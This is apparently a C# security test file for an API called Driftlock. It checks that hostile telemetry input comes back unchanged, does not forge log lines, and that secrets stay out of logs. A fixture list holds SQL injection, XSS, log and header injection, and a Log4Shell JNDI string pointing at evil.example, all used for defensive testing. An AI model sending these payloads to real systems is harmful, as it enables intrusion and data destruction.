using System.Text.Json;
using Driftlock.Tests.Api;

namespace Driftlock.Tests.Security;

/// <summary>
/// OWASP API10 and ASVS 16.4.1: telemetry and everything else that comes from outside is hostile text wherever it goes: into SQL, logs, HTML and
/// Markdown. Into CSV: Driftlock.Tests.Exports; into Slack: Driftlock.Tests.Alerts; onto pages: Driftlock.Tests.Web.
/// </summary>
[Collection(SharedApi.Name)]
public sealed class Api10HostileTelemetryTests(ApiHost host)
{
    private static readonly string[] Hostile =
    [
        "'; DROP TABLE anomalies; --", "' OR '1'='1", "\\'; SELECT pg_sleep(10); --", "{\"a\":1}\n{\"LogLevel\":\"Critical\",\"Message\":\"forged\"}", "line\r\nforged: header",
        "\u001b[31mred\u001b[0m", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "| a | b |\n|---|---|", "${jndi:ldap://evil.example/a}", "%s%n{0}", "\u202egnp.exe",
    ];

    [Fact]
    public async Task Hostile_names_come_back_as_they_were_and_do_nothing()
    {
        var tenant = await host.AddTenantAsync();
        foreach (var text in Hostile)
        {
            await host.Database.AddStreamAsync(tenant, text, Random.Shared.NextInt64());
            var anomaly = await host.Database.AddAnomalyAsync(tenant, row => (row.Service, row.Why, row.CostliestLine) = (text, text, text));
            Assert.Equal([anomaly.Id], (await host.Api.GetAsync(tenant.Read, $"api/v1/anomalies?service={Uri.EscapeDataString(text)}")).Ids);
            Assert.Equal(text, (await host.Api.GetAsync(tenant.Read, $"api/v1/anomalies/{anomaly.Id}")).Json.GetProperty("why").GetString());
            var stream = (await host.Api.GetAsync(tenant.Read, $"api/v1/streams?service={Uri.EscapeDataString(text)}")).Json.GetProperty("items")[0];
            Assert.Equal(text, stream.GetProperty("service").GetString());
        }
        Assert.Equal(Hostile.Length, await host.Database.ScalarAsync<long>($"SELECT count(*) FROM anomalies WHERE tenant_id = {tenant.Id}"));
    }

    [Fact]
    public async Task Nothing_that_comes_from_outside_makes_a_line_of_the_log_of_its_own()
    {
        await using var api = await ApiServer.StartAsync(host.Database.ConnectionString, ("Logging__LogLevel__Default", "Debug"));
        var tenant = await host.AddTenantAsync();
        foreach (var text in Hostile)
        {
            var escaped = Uri.EscapeDataString(text);
            await api.GetAsync(tenant.Read, $"api/v1/anomalies/{escaped}?service={escaped}");
            await api.GetAsync(tenant.Read, escaped);
            await api.SendAsync(null, HttpMethod.Post, "api/v1/auth/sign-in", JsonSerializer.Serialize(new { email = text, password = text }));
            await api.Otlp.SendAsync(Transport.Json, tenant.Ingest, OtlpJson.Logs(text, [text]));
        }
        var lines = api.Log.Split('\n', StringSplitOptions.RemoveEmptyEntries)[..^1];
        Assert.True(lines.Length > 20);
        foreach (var line in lines)
        {
            using var entry = JsonDocument.Parse(line);
            Assert.NotEqual("forged", entry.RootElement.GetProperty("Message").GetString());
        }
        Assert.DoesNotContain('\u001b', api.Log);
    }

    [Fact]
    public async Task No_secret_is_in_any_line_of_a_log_that_tells_all()
    {
        await using var api = await ApiServer.StartAsync(host.Database.ConnectionString, ("Logging__LogLevel__Default", "Trace"), ("Logging__LogLevel__Microsoft.AspNetCore", "Trace"), ("RateLimits__SignInPerMinute", "600000"));
        var tenant = await host.AddTenantAsync();
        const string password = "seven cranes over a lake";
        var created = (await api.SendAsync(tenant.Admin, HttpMethod.Post, "api/v1/admin/api-keys", """{"name":"x","role":"read"}""", headers: ("Idempotency-Key", "once"))).Json.GetProperty("secret").GetString()!;
        await api.SendAsync(tenant.Admin, HttpMethod.Post, "api/v1/admin/users", $$"""{"email":"s{{tenant.Id}}@example.org","role":"viewer","password":"{{password}}"}""");
        var token = (await api.SendAsync(null, HttpMethod.Post, "api/v1/auth/sign-in", $$"""{"email":"s{{tenant.Id}}@example.org","password":"{{password}}"}""")).Json.GetProperty("token").GetString()!;
        var channel = (await api.SendAsync(tenant.Admin, HttpMethod.Post, "api/v1/admin/alert-channels", """{"name":"x","kind":"webhook","target":"https://localhost:9/hooks/T0SECRET0PATH"}""")).Json;
        await api.SendAsync(tenant.Admin, HttpMethod.Post, $"api/v1/admin/alert-channels/{channel.GetProperty("channel").GetProperty("id")}/test");
        foreach (var key in (string[])[tenant.Admin, tenant.Read, created, token, "dlk_not-a-key-but-somebodys-typo"]) await api.GetAsync(key, "api/v1/me");
        await api.Otlp.SendAsync(Transport.Grpc, tenant.Ingest, OtlpJson.Logs("shop", ["password=hunter2hunter2 token=abcdef0123456789abcdef"]));

        Assert.True(api.Log.Length > 10_000);
        foreach (var secret in (string[])[tenant.Admin, tenant.Read, tenant.Ingest, created, token, password, channel.GetProperty("signingSecret").GetString()!, "T0SECRET0PATH", "hunter2hunter2", "somebodys-typo"])
        {
            Assert.DoesNotContain(secret, api.Log, StringComparison.Ordinal);
        }
    }
}
